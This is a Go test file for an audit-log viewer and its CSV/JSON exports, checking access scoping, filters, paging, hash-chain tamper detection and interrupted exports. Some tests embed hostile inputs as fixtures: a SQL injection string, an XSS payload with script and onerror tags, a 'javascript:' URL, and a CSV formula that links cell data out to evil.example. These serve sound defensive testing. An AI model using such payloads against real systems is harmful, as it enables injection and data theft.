package handlers_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"tokenconsole/internal/audit"
)

// add appends entries of the demo organization, unless they name another.
func (rec *recorded) add(entries ...audit.Entry) (seqs []string) {
	rec.t.Helper()
	demo := rec.entries()[0]
	for _, e := range entries {
		if e.OrganizationID == "" {
			e.OrganizationID, e.OrganizationName = demo.OrganizationID, demo.OrganizationName
		}
		if e.Action == "" {
			e.Action, e.Outcome = audit.Revoke, audit.Done
		}
		written, err := rec.audit.Append(rec.t.Context(), e)
		if err != nil {
			rec.t.Fatal(err)
		}
		seqs = append(seqs, strconv.FormatInt(written.Seq, 10))
	}
	return seqs
}

// seqs are the numbers of the entries that a page shows, as shown.
func (a *answer) seqs() []string {
	a.t.Helper()
	return a.page().Find("table.record summary").Map(func(_ int, s *goquery.Selection) string { return s.Text() })
}

// exported are the numbers of the entries in an export.
func exported(t *testing.T, a *answer) (seqs []string) {
	t.Helper()
	a.want(http.StatusOK)
	if strings.HasPrefix(a.Header.Get("Content-Type"), "text/csv") {
		records, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
		if err != nil || records[0][0] != "seq" {
			t.Fatalf("not a CSV: %v %.100s", err, a.body)
		}
		for _, r := range records[1:] {
			seqs = append(seqs, r[0])
		}
		return seqs
	}
	var entries []struct{ Seq int64 }
	if err := json.Unmarshal([]byte(a.body), &entries); err != nil {
		t.Fatalf("not JSON: %v", err)
	}
	for _, e := range entries {
		seqs = append(seqs, strconv.FormatInt(e.Seq, 10))
	}
	return seqs
}

func TestAuditWhoSeesWhat(t *testing.T) {
	t.Parallel()
	rec := newRecorded(t)
	ada, sam, mina := rec.signedIn(admin), rec.signedIn(supervisor), rec.signedIn(agent) // entries 1, 2, 3
	trustee := rec.signedIn("trustee@partner.example")                                   // 4
	rec.add(
		audit.Entry{Actor: rec.party(supervisor), Subject: rec.party(agent)},            // 5
		audit.Entry{Actor: rec.party(admin), Subject: rec.party(supervisor)},            // 6
		audit.Entry{Actor: rec.party(agent), Action: audit.Verify, Outcome: audit.Done}, // 7
		// Of another organization, about the very same people:
		audit.Entry{OrganizationID: "other", Actor: rec.party(supervisor), Subject: rec.party(agent), Reason: "none of yours"}, // 8
	)
	all := []string{"7", "6", "5", "4", "3", "2", "1"}
	for name, test := range map[string]struct {
		b    *browser
		want []string
	}{
		"administrator": {ada, all}, "supervisor": {sam, all}, "trustee at work here": {trustee, all},
		"agent": {mina, []string{"7", "5", "3"}},
	} {
		a := test.b.get("/audit").want(http.StatusOK)
		if diff := cmp.Diff(test.want, a.seqs()); diff != "" {
			t.Errorf("%s sees (-want +got):\n%s", name, diff)
		}
		if own := strings.Contains(a.text(), "You see the entries about yourself."); own != (name == "agent") {
			t.Errorf("%s is told to see their own only: %v", name, own)
		}
		for _, path := range []string{"/audit.csv", "/audit.json"} {
			if diff := cmp.Diff(test.want, exported(t, test.b.get(path))); diff != "" {
				t.Errorf("%s exports by %s (-want +got):\n%s", name, path, diff)
			}
		}
		// No filter widens what one may see.
		for _, query := range []string{"?person=none", "?actor=" + rec.userID(admin), "?own=&organization=other", "?open=on", "?after=older-9999999999999-9999"} {
			for _, seq := range test.b.get("/audit" + query).want(http.StatusOK).seqs() {
				if !slices.Contains(test.want, seq) {
					t.Errorf("%s sees entry %s by %s", name, seq, query)
				}
			}
		}
	}
}

func TestAuditFilters(t *testing.T) {
	t.Parallel()
	rec := newRecorded(t, func(s *setup) {
		s.emulator.TokenLifetime, s.console.Sessions.Idle, s.console.Sessions.Total = 72*time.Hour, 48*time.Hour, 48*time.Hour
	})
	b := rec.signedIn(admin) // 1
	rec.clock.advance(24 * time.Hour)
	tomorrow := rec.clock.now().UTC().Format(time.DateOnly)
	today := rec.clock.now().UTC().AddDate(0, 0, -1).Format(time.DateOnly)
	rec.add(
		audit.Entry{Actor: rec.party(supervisor), Subject: rec.party(agent), Outcome: audit.Refused, Action: audit.Revoke},                       // 2
		audit.Entry{Actor: rec.party(supervisor), Subject: rec.party(agent), Outcome: audit.Asked, Action: audit.Revoke},                         // 3
		audit.Entry{Actor: rec.party(agent), Subject: audit.Party{ID: "x", Name: "100% Wool_worth"}, Action: audit.Inspect, Outcome: audit.Done}, // 4
	)
	for query, want := range map[string][]string{
		"":                                  {"4", "3", "2", "1"},
		"person=KELLER":                     {"3", "2"},
		"person=agent@demo":                 {"3", "2"},
		"person=" + rec.userID(agent):       {"3", "2"},
		"person=100%25":                     {"4"},
		"person=%25":                        {"4"},
		"person=_":                          {"4"},
		"person=' OR 1=1 --":                nil,
		"actor=ortiz":                       {"3", "2"},
		"actor=ortiz&person=ada":            nil,
		"action=inspect":                    {"4"},
		"action=revoke&outcome=refused":     {"2"},
		"outcome=asked":                     {"3"},
		"open=on":                           {"3"},
		"to=" + today:                       {"1"},
		"from=" + tomorrow:                  {"4", "3", "2"},
		"from=" + today + "&to=" + tomorrow: {"4", "3", "2", "1"},
		"from=" + tomorrow + "&to=" + today: nil,
		"person=&actor=&action=&outcome=&from=&to=": {"4", "3", "2", "1"},
	} {
		values, err := url.ParseQuery(query)
		if err != nil {
			t.Fatal(err)
		}
		query = values.Encode()
		a := b.get("/audit?" + query).want(http.StatusOK)
		if diff := cmp.Diff(want, a.seqs(), cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("%q shows (-want +got):\n%s", query, diff)
		}
		for name := range values {
			field := a.page().Find("form.filter [name=" + name + "]")
			shown, _ := field.Attr("value")
			if field.Is("select") {
				shown = field.Find("option[selected]").AttrOr("value", "")
			}
			if shown != values.Get(name) {
				t.Errorf("%q: the form shows %q for %s", query, shown, name)
			}
		}
		if all := strings.Contains(a.text(), "Show all"); all == (len(want) == 4 && !strings.Contains(query, "2")) {
			t.Errorf("%q: offers to show all: %v", query, all)
		}
		if len(want) == 0 {
			continue
		}
		for _, kind := range []string{"csv", "json"} {
			link := a.page().Find("a[download]").FilterFunction(func(_ int, s *goquery.Selection) bool {
				return strings.HasPrefix(s.AttrOr("href", ""), "/audit."+kind)
			}).AttrOr("href", "")
			if diff := cmp.Diff(want, exported(t, b.get(link))); diff != "" {
				t.Errorf("%q exports as %s (-want +got):\n%s", query, kind, diff)
			}
		}
	}
}

func TestAuditRefusesFiltersThatAreNone(t *testing.T) {
	t.Parallel()
	rec := newRecorded(t)
	b := rec.signedIn(admin)
	for _, query := range []string{
		"from=yesterday", "to=2026-02-30", "from=2026-1-2", "to=%00", "from=2026-01-02T00:00", "from=99999-01-01",
		"action=revok", "outcome=fine", "action=%00", "outcome=%ff",
	} {
		a := b.get("/audit?" + query).want(http.StatusUnprocessableEntity)
		if len(a.seqs()) != 0 {
			t.Errorf("%s: entries all the same", query)
		}
		name, _, _ := strings.Cut(query, "=")
		field := a.page().Find("[name=" + name + "]")
		if id := field.AttrOr("aria-describedby", "none"); a.page().Find("#"+id).Text() == "" {
			t.Errorf("%s: the field does not say what is wrong", query)
		}
		for _, path := range []string{"/audit.csv?", "/audit.json?"} {
			b.get(path+query).want(http.StatusUnprocessableEntity).wantText("That filter cannot be read", "Nothing was exported.")
		}
	}
	for _, after := range []string{"x", "older-1", "older-1-2-3", "newer--", "older-9999999999999999999999-1", "%00", "older-01-1", "sideways-1-1"} {
		if got := b.get("/audit?after=" + after).want(http.StatusOK).seqs(); len(got) != 1 {
			t.Errorf("the place %s shows %v, want the newest", after, got)
		}
	}
}

// Whatever bytes come as a filter, the answer is a page. PostgreSQL is asked the
// same in package e2e.
func TestAuditFiltersOfOddBytes(t *testing.T) {
	t.Parallel()
	rec := newRecorded(t)
	b := rec.signedIn(admin)
	for _, text := range []string{"\x00", "a\x00b", "\xff\xfe", strings.Repeat("ü", 300), strings.Repeat("漢", 67), `\`, `%\`, "'", `"`, "\u202e"} {
		for _, name := range []string{"person", "actor"} {
			b.get("/audit?" + url.Values{name: {text}}.Encode()).want(http.StatusOK)
			b.get("/audit.csv?" + url.Values{name: {text}}.Encode()).want(http.StatusOK)
		}
	}
}

func TestAuditPaging(t *testing.T) {
	t.Parallel()
	rec := newRecorded(t)
	b := rec.signedIn(admin)
	rec.execute(rec.manyEntries(129, "phone lost")...)
	walk := func(from *answer, rel string) (pages []*answer) {
		for a := from; ; {
			pages = append(pages, a)
			next, ok := a.page().Find("a[rel=" + rel + "]").Attr("href")
			if !ok || len(pages) > 5 {
				return pages
			}
			a = b.get(next).want(http.StatusOK)
		}
	}
	pages := walk(b.get("/audit?actor=Ada").want(http.StatusOK), "next")
	var sizes, seqs []string
	for _, a := range pages {
		sizes = append(sizes, strconv.Itoa(len(a.seqs())))
		seqs = append(seqs, a.seqs()...)
	}
	var want []string
	for n := 130; n > 0; n-- {
		want = append(want, strconv.Itoa(n))
	}
	if diff := cmp.Diff([]string{"50", "50", "30"}, sizes); diff != "" {
		t.Errorf("pages (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(want, seqs); diff != "" {
		t.Errorf("entries through Older (-want +got):\n%s", diff)
	}
	back := walk(pages[2], "prev")
	if len(back) != 3 || !slices.Equal(back[2].seqs(), pages[0].seqs()) {
		t.Errorf("through Newer one comes back by %d pages to %v", len(back), back[len(back)-1].seqs())
	}
	if len(exported(t, b.get("/audit.csv?actor=Ada"))) != 130 {
		t.Error("the export is not of all pages")
	}
}

// manyEntries writes n copies of the first entry, quickly and outside the chain.
func (rec *recorded) manyEntries(n int, reason string) []string {
	return append(rec.unguard(), fmt.Sprintf(`INSERT INTO audit_entries
		WITH RECURSIVE more(n) AS (SELECT 2 UNION ALL SELECT n + 1 FROM more WHERE n <= %d)
		SELECT n, at + n, action, outcome, actor, organization_id, organization_name, region, subject, '%s', ticket, detail,
		platform_status, correlation_id, request_id, client_address, asks, previous, hash FROM audit_entries, more WHERE seq = 1`, n, reason))
}

// unguard does what only an owner of the database can: it takes the triggers away.
func (rec *recorded) unguard() (drops []string) {
	rec.t.Helper()
	rows, err := rec.db.QueryContext(rec.t.Context(), "SELECT name FROM sqlite_schema WHERE type = 'trigger'")
	if err != nil {
		rec.t.Fatal(err)
	}
	defer rows.Close()
	for rows.Next() {
		var name string
		if err := rows.Scan(&name); err != nil {
			rec.t.Fatal(err)
		}
		drops = append(drops, "DROP TRIGGER "+name)
	}
	return drops
}

func TestAuditTextIsText(t *testing.T) {
	t.Parallel()
	rec := newRecorded(t)
	b := rec.signedIn(admin)
	const hostile = `"><img src=x onerror=alert(1)><script>alert(2)</script>`
	party := audit.Party{ID: "javascript:alert(1)", Name: hostile, Email: hostile}
	rec.add(audit.Entry{Actor: party, Subject: party, Reason: hostile, Ticket: hostile, Detail: hostile, Region: hostile, CorrelationID: hostile})
	a := b.get("/audit?person=" + url.QueryEscape(hostile)).want(http.StatusOK)
	row := a.page().Find("table.record tbody tr")
	if row.Length() != 1 || strings.Count(row.Text(), hostile) != 9 {
		t.Errorf("%d rows, the text shows %d times", row.Length(), strings.Count(row.Text(), hostile))
	}
	if n := a.page().Find("img, script:not([src])").Length(); n != 0 {
		t.Errorf("%d elements came out of the text", n)
	}
	a.page().Find("a").Each(func(_ int, s *goquery.Selection) {
		if strings.HasPrefix(s.AttrOr("href", ""), "javascript:") {
			t.Errorf("a link leads to %s", s.AttrOr("href", ""))
		}
	})
	if got := a.page().Find("#person").AttrOr("value", ""); got != hostile {
		t.Errorf("the field holds %q", got)
	}
}

func TestAuditSaysWhetherTheChainIsWhole(t *testing.T) {
	t.Parallel()
	rec := newRecorded(t)
	b := rec.signedIn(admin)
	chain := func() string {
		t.Helper()
		p := b.get("/audit").want(http.StatusOK).page().Find("main > p.notice")
		return strings.TrimSpace(p.Text()) + map[bool]string{true: " (bad)"}[p.HasClass("notice-bad")]
	}
	want := func(words string) {
		t.Helper()
		if got := chain(); got != words {
			t.Errorf("the page says %q, want %q", got, words)
		}
	}
	want("The chain is whole: 1 entries, checked up to entry 1.")
	rec.add(audit.Entry{Actor: rec.party(admin)}, audit.Entry{Actor: rec.party(admin)})
	want("The chain is whole: 3 entries, checked up to entry 3.")
	rec.execute(append(rec.unguard(), "UPDATE audit_entries SET reason = 'made up' WHERE seq = 2")...)
	// What was checked is checked anew from time to time, so that a console that
	// runs for months tells of it too.
	rec.clock.advance(20 * time.Minute)
	chain() // begins it
	deadline := time.Now().Add(5 * time.Second)
	for !strings.HasSuffix(chain(), "(bad)") && time.Now().Before(deadline) {
	}
	want("The chain is broken at entry 2: was changed after it was written. (bad)")
}

func TestAuditTellsOfACutOffEndAtOnce(t *testing.T) {
	t.Parallel()
	rec := newRecorded(t)
	b := rec.signedIn(admin)
	rec.add(audit.Entry{Actor: rec.party(admin)}, audit.Entry{Actor: rec.party(admin)})
	b.get("/audit").wantText("The chain is whole: 3 entries")
	rec.execute(append(rec.unguard(), "DELETE FROM audit_entries WHERE seq = 3", "UPDATE audit_chain SET seq = 2, hash = (SELECT hash FROM audit_entries WHERE seq = 2)")...)
	b.get("/audit").wantText("The chain is broken at entry 3")
}

func TestAuditExportHeadersAndFormulas(t *testing.T) {
	t.Parallel()
	rec := newRecorded(t)
	b := rec.signedIn(admin)
	const formula = `=HYPERLINK("https://evil.example/?"&A1,"more")`
	rec.add(audit.Entry{Actor: rec.party(admin), Reason: formula, Ticket: "+1", Detail: "two\nlines, and \"quotes\"", Subject: audit.Party{Name: "@SUM(1)"}})
	stamp := rec.clock.now().UTC().Format("20060102-150405")
	for kind, mime := range map[string]string{"csv": "text/csv; charset=utf-8", "json": "application/json"} {
		a := b.get("/audit." + kind).want(http.StatusOK)
		for name, want := range map[string]string{
			"Content-Type": mime, "Content-Disposition": `attachment; filename="audit-` + stamp + "." + kind + `"`,
			"Cache-Control": "no-store", "X-Content-Type-Options": "nosniff",
		} {
			if got := a.Header.Get(name); got != want {
				t.Errorf("%s: %s is %q, want %q", kind, name, got, want)
			}
		}
	}
	records, err := csv.NewReader(strings.NewReader(b.get("/audit.csv").body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for i, name := range records[0] {
		got[name] = records[1][i]
	}
	for name, want := range map[string]string{
		"reason": "'" + formula, "ticket": "'+1", "subject_name": "'@SUM(1)", "detail": "two\nlines, and \"quotes\"",
		"actor_email": admin, "organization_name": "Demo Contact Centre", "outcome": "done", "open": "false",
	} {
		if got[name] != want {
			t.Errorf("%s is %q, want %q", name, got[name], want)
		}
	}
	rec.newBrowser().get("/audit.csv").wantTo("/login?return_to=%2Faudit.csv")
}

// losing is a client that makes the console lose its database with the first
// bytes that it gets.
type losing struct {
	*httptest.ResponseRecorder
	lose func()
}

func (l losing) Write(p []byte) (int, error) {
	l.lose()
	return l.ResponseRecorder.Write(p)
}

func TestAuditExportThatBreaksOffIsNotTakenForWhole(t *testing.T) {
	t.Parallel()
	for _, path := range []string{"/audit.csv", "/audit.json"} {
		rec := newRecorded(t)
		b := rec.signedIn(admin)
		rec.execute(rec.manyEntries(1500, "phone lost")...)
		r := b.request(http.MethodGet, path, nil)
		for _, c := range b.cookies() {
			r.AddCookie(c)
		}
		r.RemoteAddr = "127.0.0.1:1"
		w := losing{httptest.NewRecorder(), func() { rec.db.Close() }}
		func() {
			defer func() {
				if p := recover(); p != http.ErrAbortHandler {
					t.Errorf("%s ends with %v, not by breaking the connection off", path, p)
				}
			}()
			rec.handler.ServeHTTP(w, r)
		}()
		if !strings.Contains(rec.log.String(), "an export broke off") {
			t.Errorf("%s: the log does not tell", path)
		}
		b.get(path).want(http.StatusServiceUnavailable).wantText("The record cannot be read")
	}
}
